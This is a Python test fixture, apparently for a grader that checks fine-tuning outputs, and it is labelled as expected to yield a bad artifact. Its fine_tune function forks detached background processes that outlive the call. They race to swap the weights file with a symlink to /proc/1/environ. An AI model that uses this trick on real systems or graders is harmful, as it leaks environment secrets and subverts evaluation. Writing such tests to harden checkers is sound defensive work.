"""Children that go on after the end swap the weights for a link, and back, as fast as they can.

Expected: bad_artifact
"""

import contextlib
import os


def fine_tune(base_dir, train_file, output_dir, budget):
    os.chdir(output_dir)
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            while True:
                with contextlib.suppress(OSError):
                    with open("regular", "wb") as file:
                        file.write(bytes(1000))
                    os.symlink("/proc/1/environ", "link")
                    os.replace("regular", "model.safetensors")
                    os.replace("link", "model.safetensors")
